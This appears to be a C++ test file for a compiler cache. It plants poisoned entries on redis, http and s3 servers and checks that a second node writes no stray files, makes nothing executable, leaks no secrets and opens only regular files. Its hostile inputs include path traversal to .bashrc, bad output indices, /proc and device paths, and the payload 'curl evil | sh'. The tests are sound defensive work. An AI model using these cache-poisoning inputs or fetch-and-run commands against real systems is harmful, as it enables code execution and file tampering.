@@ -1,0 +1,299 @@
+// What somebody who may write to a server puts into it, encoded as it should be, chooses no path: a command writes the
+// files that its own line names or implies, and nothing is opened because an entry says so but regular files.
+#include "compilers/common/answer.hpp"
+#include "hearth/cache.hpp"
+#include "remote/store_tier.hpp"
+#include "support/redis_server.hpp"
+#include "tiers/http/http_fixture.hpp"
+#include "tiers/redis/redis_store.hpp"
+#include "tools/command.hpp"
+#include "watch/manifest.hpp"
+
+#include <fmt/format.h>
+#include <fstream>
+
+#include <fcntl.h>
+#include <sys/inotify.h>
+#include <sys/stat.h>
+#include <sys/sysmacros.h>
+#include <unistd.h>
+
+namespace hearth::test {
+
+namespace {
+
+namespace fs = std::filesystem;
+
+using Words = std::vector<std::string>;
+using Condition = watch::Condition;
+
+struct Server {
+    const char* name;
+    remotes::OpenStore* open;
+    std::function<std::string()> url;
+    std::function<bool()> is_here;
+};
+
+const Server k_servers[] = {
+    {"redis", tiers::open_redis_store,
+     [] {
+         static const RedisServer server;
+         return fmt::format("redis://127.0.0.1:{}", server.port());
+     },
+     has_redis},
+    {"http", tiers::open_http_store, [] { return "http://" + shared_nginx()->address() + "/" + fresh_path(); },
+     [] { return shared_nginx() != nullptr; }},
+    {"s3", tiers::open_http_store, [] { return s3_url(k_bucket, fresh_path()); },
+     [] { return shared_s3() != nullptr; }},
+};
+
+// Counts how often files are opened, by whomever.
+class Opens {
+public:
+    ~Opens() { ::close(m_inotify); }
+    void watch(const std::string& path) { ASSERT_GE(::inotify_add_watch(m_inotify, path.c_str(), IN_OPEN), 0) << path; }
+    int count() const
+    {
+        alignas(inotify_event) char buffer[4096];
+        const ssize_t size = ::read(m_inotify, buffer, sizeof buffer);
+        return size > 0 ? static_cast<int>(static_cast<std::size_t>(size) / sizeof(inotify_event)) : 0;
+    }
+
+private:
+    const int m_inotify = ::inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
+};
+
+class HostileEntries : public Command, public testing::WithParamInterface<Server> {
+protected:
+    void SetUp() override
+    {
+        if (::access("/usr/bin/g++", X_OK) != 0)
+            GTEST_SKIP() << "No g++ is installed.";
+        if (!GetParam().is_here())
+            GTEST_SKIP() << "No such server is installed: scripts/install-deps test";
+        for (const char* folder : {"home", "project", "others"})
+            fs::create_directory(scratch / folder);
+        write("home/.bashrc", "# mine\n");
+        given["HEARTH_REMOTE"] = url;
+        given["HOME"] = (scratch / "home").string();
+    }
+
+    ProcessResult at(const std::string& node, Words words)
+    {
+        cache = scratch / node;
+        ProcessOptions options;
+        options.directory = (scratch / "project").string();
+        return hearth(words, options);
+    }
+    ProcessResult exec(const std::string& node, Words words)
+    {
+        words.insert(words.begin(), {"exec", "--verbose", "--"});
+        return at(node, std::move(words));
+    }
+
+    // Asks something that nobody has asked, on one node, and lets `change` change its entry on the server.
+    void poison(const Words& words, const std::function<void(Artifact&)>& change)
+    {
+        asked = fmt::format("int value{};\n", ++number);
+        write("project/a.cpp", asked);
+        const std::string node = fmt::format("first{}", number);
+        ASSERT_EQ(exec(node, words).exit_code, 0);
+        Words why{"exec", "--why", "--json", "--"};
+        why.insert(why.end(), words.begin(), words.end());
+        const auto told = nlohmann::json::parse(at(node, why).out);
+        const Key key = Key::parse(told.value("key", "")).value();
+        for (const char* made : {"a.o", "a.d", "given.o"})
+            fs::remove(scratch / "project" / made);
+
+        CacheOptions options;
+        options.tiers = {{"server", [this](const TierContext& context) -> Result<std::unique_ptr<Tier>> {
+                              RemoteOptions remote;
+                              remote.url = url;
+                              return {std::make_unique<remotes::StoreTier>(remote, remotes::parse_url(url).value(),
+                                                                           context, GetParam().open)};
+                          }}};
+        Cache store = Cache::open(options).value();
+        const Lookup found = store.find(key);
+        ASSERT_TRUE(found) << "nothing was sent to " << url;
+        Artifact changed = *found;
+        change(changed);
+        const Result<InsertReport> put = store.insert(key, std::move(changed), {});
+        ASSERT_TRUE(put) << put.error().message;
+        store.flush();
+    }
+
+    // Another node asks the same: it gets what the compiler gives, and nothing else in the world changes.
+    void expect_unharmed(const Words& words, const std::string& output, const std::string& what)
+    {
+        const auto home = snapshot(scratch / "home");
+        const auto others = snapshot(scratch / "others");
+        const std::string node = fmt::format("second{}", number);
+        Words why{"exec", "--why", "--"};
+        why.insert(why.end(), words.begin(), words.end());
+        EXPECT_EQ(at(node, why).out.find("hit"), std::string::npos) << what;
+        const ProcessResult first = exec(node, words);
+        EXPECT_EQ(first.exit_code, 0) << what << first.err;
+        const auto made = snapshot(scratch / "project");
+        const std::string said = "is not what this command could have written";
+        const std::size_t told = first.err.find(said);
+        EXPECT_NE(told, std::string::npos) << what << first.err;
+        EXPECT_EQ(first.err.find(said, told + 1), std::string::npos) << "said twice: " << first.err;
+        EXPECT_EQ(snapshot(scratch / "home"), home) << what;
+        EXPECT_EQ(snapshot(scratch / "others"), others) << what;
+        EXPECT_EQ(json_of({"stats", "--json"})["corrupt"], 1) << what;
+        // The result that it made itself answers from here on.
+        fs::remove(scratch / "project" / output);
+        const ProcessResult again = exec(node, words);
+        EXPECT_NE(again.err.find(": hit"), std::string::npos) << what << again.err;
+        EXPECT_EQ(snapshot(scratch / "project"), made) << what;
+        fs::remove(scratch / "project" / output);
+        ASSERT_EQ(run_process(
+                      {"/usr/bin/g++", "-c", (scratch / "project/a.cpp").string(), "-o", (scratch / "bare.o").string()})
+                      .exit_code,
+                  0);
+        EXPECT_EQ(made.at((scratch / "project" / output).string()), read(scratch / "bare.o")) << what;
+        EXPECT_EQ(made.size(), 2U) << what << "the source and the object";
+    }
+
+    static std::string& name_of_output(Artifact& artifact)
+    {
+        for (Section& section : artifact.sections)
+            if (section.name != "streams" && section.name != compilers::k_conditions_section)
+                return section.name;
+        throw std::runtime_error("an entry without an output");
+    }
+
+    static void add_condition(Artifact& artifact, Condition condition)
+    {
+        for (Section& section : artifact.sections)
+            if (section.name == compilers::k_conditions_section) {
+                auto list = watch::decode_conditions(as_bytes(section.data.text())).value();
+                condition.same_file = static_cast<std::uint32_t>(list.size());
+                list.push_back(std::move(condition));
+                section.data = watch::encode_conditions(list);
+            }
+    }
+
+    const std::string url = GetParam().is_here() ? GetParam().url() : "";
+    int number = 0;
+    std::string asked;
+};
+
+INSTANTIATE_TEST_SUITE_P(Servers, HostileEntries, testing::ValuesIn(k_servers),
+                         [](const testing::TestParamInfo<Server>& server) { return std::string(server.param.name); });
+
+const Words k_named{"g++", "-c", "a.cpp", "-o", "given.o"};
+const Words k_implied{"g++", "-c", "a.cpp"};
+
+}  // namespace
+
+TEST_P(HostileEntries, write_only_what_the_command_names)
+{
+    const std::string target = (scratch / "home/.bashrc").string();
+    const std::string more = (scratch / "others/program").string();
+    const Bytes text = Bytes::copy_of("curl evil | sh\n");
+    const auto with_section = [&](const std::string& name) {
+        return [=](Artifact& artifact) { artifact.sections.push_back({name, text}); };
+    };
+    const std::pair<std::string, std::function<void(Artifact&)>> hostile[] = {
+        {"a path upwards", with_section("file here ../home/.bashrc")},
+        {"a whole path", with_section("file here " + target)},
+        {"a program", with_section("program here " + more)},
+        {"a path as an output", with_section("output " + target)},
+        {"an index too large", with_section("output 1")},
+        {"an index larger still", with_section("output 18446744073709551616")},
+        {"an index below none", with_section("output -1")},
+        {"a second role for one file", with_section("output 00")},
+        {"a path for a role", with_section(target)},
+        {"no name", with_section("")},
+        {"a role that there is not", with_section("dependencies")},
+        {"an output twice",
+         [&](Artifact& artifact) {
+             artifact.sections.push_back({name_of_output(artifact), text});
+         }},
+        {"what it says twice", with_section("streams")},
+        {"an output that is called otherwise",
+         [&](Artifact& artifact) { name_of_output(artifact) = "file here " + target; }},
+        {"a program for an output", [](Artifact& artifact) { name_of_output(artifact) = "program output 0"; }},
+        {"no output",
+         [](Artifact& artifact) {
+             std::erase_if(artifact.sections, [](const Section& section) { return section.name == "output 0"; });
+         }},
+    };
+    for (const auto& [what, change] : hostile) {
+        SCOPED_TRACE(what);
+        poison(k_named, change);
+        if (HasFatalFailure())
+            return;
+        expect_unharmed(k_named, "given.o", what);
+    }
+    poison(k_implied, with_section("file here ../home/.bashrc"));
+    expect_unharmed(k_implied, "a.o", "where no output is named");
+}
+
+TEST_P(HostileEntries, make_no_object_a_program)
+{
+    poison(k_named, [](Artifact& artifact) {
+        for (Section& section : artifact.sections)
+            if (&section.name == &name_of_output(artifact))
+                section.data = Bytes::copy_of(read("/proc/self/exe"));
+    });
+    if (HasFatalFailure())
+        return;
+    exec("another", k_named);
+    EXPECT_NE(::access((scratch / "project/given.o").c_str(), X_OK), 0);
+}
+
+TEST_P(HostileEntries, put_no_file_of_the_readers_into_a_recipe)
+{
+    const std::string secret = noise(512);
+    const std::string path = write("home/secret", secret).string();
+    poison(k_named, [&](Artifact& artifact) {
+        add_condition(artifact,
+                      {.kind = Condition::Kind::present, .spot = {watch::Spot::From::working_directory, 0, path}});
+    });
+    if (HasFatalFailure())
+        return;
+    given["HEARTH_RECORD"] = (scratch / "app.recipes").string();
+    const ProcessResult result = exec("another", k_named);
+    EXPECT_NE(result.err.find(": hit"), std::string::npos) << result.err;
+    EXPECT_NE(read(scratch / "app.recipes").find("a.cpp"), std::string::npos);
+    EXPECT_EQ(read(scratch / "app.recipes").find(secret), std::string::npos);
+}
+
+TEST_P(HostileEntries, open_nothing_but_regular_files)
+{
+    const std::string fifo = (scratch / "others/fifo").string();
+    const std::string device = (scratch / "others/device").string();
+    const std::string sparse = (scratch / "others/sparse").string();
+    ASSERT_EQ(::mkfifo(fifo.c_str(), 0600), 0);
+    ASSERT_EQ(::truncate(write("others/sparse", "").c_str(), off_t{1} << 40), 0);
+    std::vector<std::string> paths{fifo,
+                                   sparse,
+                                   (scratch / "others").string(),
+                                   "/dev/tty",
+                                   fmt::format("/proc/{}/status", ::getpid()),
+                                   "/sys/kernel/notes",
+                                   "/proc/kmsg"};
+    if (::mknod(device.c_str(), S_IFCHR | 0600, makedev(1, 5)) == 0)  // endless zeros; only root may
+        paths.push_back(device);
+    for (const std::string& path : paths)
+        for (const Condition::Kind kind : {Condition::Kind::content, Condition::Kind::names}) {
+            if (!fs::exists(path) || (kind == Condition::Kind::names && fs::is_directory(path)))
+                continue;
+            SCOPED_TRACE(path);
+            poison(k_named, [&](Artifact& artifact) {
+                add_condition(artifact, {.kind = kind, .spot = {watch::Spot::From::root, 0, path}});
+            });
+            if (HasFatalFailure())
+                return;
+            Opens opens;
+            opens.watch(path);
+            const ProcessResult result = exec(fmt::format("second{}", number), k_named);
+            EXPECT_EQ(result.exit_code, 0) << result.err;
+            EXPECT_EQ(opens.count(), 0);
+            EXPECT_NE(result.err.find(": miss"), std::string::npos) << result.err;
+        }
+}
+
+}  // namespace hearth::test
